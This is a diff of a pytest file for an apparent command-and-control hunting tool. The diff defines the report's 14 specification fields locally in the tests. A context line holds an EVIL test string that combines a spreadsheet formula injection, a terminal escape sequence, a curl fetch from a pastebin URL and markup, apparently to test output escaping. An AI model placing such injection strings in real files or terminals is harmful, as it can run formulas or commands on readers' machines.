@@ -11,12 +11,20 @@ import pytest
 from c2hunt.detect.testing import sysmon
 from c2hunt.errors import C2HuntError
 from c2hunt.report import HuntReport, write_report
-from c2hunt.score import FINDING_COLUMNS, SPEC_FIELDS
+from c2hunt.score import EVIDENCE_FIELDS
 
 MakeReport = Callable[..., HuntReport]
 
 EVIL = '=HYPERLINK("x")\x1b]0;pwned\x07 curl https://pastebin.com/raw/a [red]x[/red]'
 CURL = r"C:\x\curl.exe"
+
+# The specification's `fields` clause, written out: the tests state it independently.
+SPEC_14 = (
+    "_messageTime", "Computer", "User", "Image", "CommandLine", "ParentImage",
+    "ParentCommandLine", "DestinationHostname", "DestinationIp", "DestinationPort",
+    "is_encoded", "is_office_parent", "is_service_spawn", "suspicion_score",
+)  # fmt: skip
+FINDING_COLUMNS = ("finding_id", *SPEC_14, *EVIDENCE_FIELDS)
 
 
 def connection(guid: str, pid: int, name: str, second: int) -> dict[str, Any]:
@@ -76,7 +84,7 @@ def test_spec_profile_writes_only_the_14_fields(fmt: str, render: Callable[..., 
     else:
         header, *rows = csv.reader(io.StringIO(text))
         keys = [tuple(header)] * len(rows)
-    assert keys == [SPEC_FIELDS] * 3
+    assert keys == [SPEC_14] * 3
 
 
 def test_json_holds_the_cases_and_the_findings(render: Callable[..., str]) -> None:
